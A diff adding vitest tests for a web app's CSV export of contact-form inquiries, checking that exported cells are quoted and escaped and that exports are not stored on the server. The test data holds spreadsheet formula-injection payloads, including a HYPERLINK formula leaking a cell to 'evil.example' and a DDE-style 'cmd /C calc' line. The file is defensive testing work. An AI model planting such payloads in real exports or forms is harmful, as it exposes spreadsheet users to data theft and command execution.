@@ -1,3 +1,5 @@
+import { randomBytes } from 'node:crypto'
+
 import pg from 'pg'
 import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest'
 
@@ -174,6 +176,52 @@ describe('CSV export of the inbox', () => {
       expect(response.status).toBe(403)
       expect(await response.text()).not.toContain('@example.test')
     }
+  })
+
+  it('writes what senders typed as text a spreadsheet never evaluates, in every column', async () => {
+    const email = `-${randomBytes(6).toString('hex')}+x@example.com`
+    const sent = await submitted({
+      name: '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
+      email,
+      message: "@SUM(1+1)*cmd|' /C calc'!A0\n=2+2;=3+3",
+      phone: '+34 600 000 000',
+      service: '-2+3',
+    })
+    const response = await exportCsv(
+      { headers: { Authorization: editor.authorization } },
+      { email: { equals: sent.email } },
+    )
+    expect(response.status).toBe(200)
+    expect(response.headers.get('content-type')).toMatch(/text\/csv/)
+    const bytes = new Uint8Array(await response.arrayBuffer())
+    // UTF-8 with its byte order mark, as spreadsheets need to read it as UTF-8.
+    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
+    const csv = new TextDecoder().decode(bytes)
+    expect(csv).toContain('"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Open"")"')
+    expect(csv).toContain(`"'${email}"`)
+    expect(csv).toContain("\"'@SUM(1+1)*cmd|' /C calc'!A0\n=2+2;=3+3\"")
+    expect(csv).toContain('"\'+34 600 000 000"')
+    expect(csv).toContain('"\'-2+3"')
+    // Every cell of every column, the header's included, is quoted: no cell begins unquoted.
+    const cells = /"(?:[^"]|"")*"/g
+    const rest = csv.replace(cells, '')
+    expect(rest).toMatch(/^[,\n]*$/)
+  })
+
+  it('is downloaded, never saved as a file on the server', async () => {
+    const sent = await submitted({ name: '=1+1' })
+    const saved = await as(editor, '/api/exports', {
+      method: 'POST',
+      body: JSON.stringify({
+        collectionSlug: 'inquiries',
+        format: 'csv',
+        where: { email: { equals: sent.email } },
+      }),
+    })
+    expect(saved.status).toBe(403)
+    expect(await saved.json()).toMatchObject({ error: { code: 'forbidden' } })
+    const { totalDocs } = await asAdminJson<{ totalDocs: number }>('/api/exports')
+    expect(totalDocs).toBe(0)
   })
 
   it('the plugin’s export records and preview are for editors only', async () => {
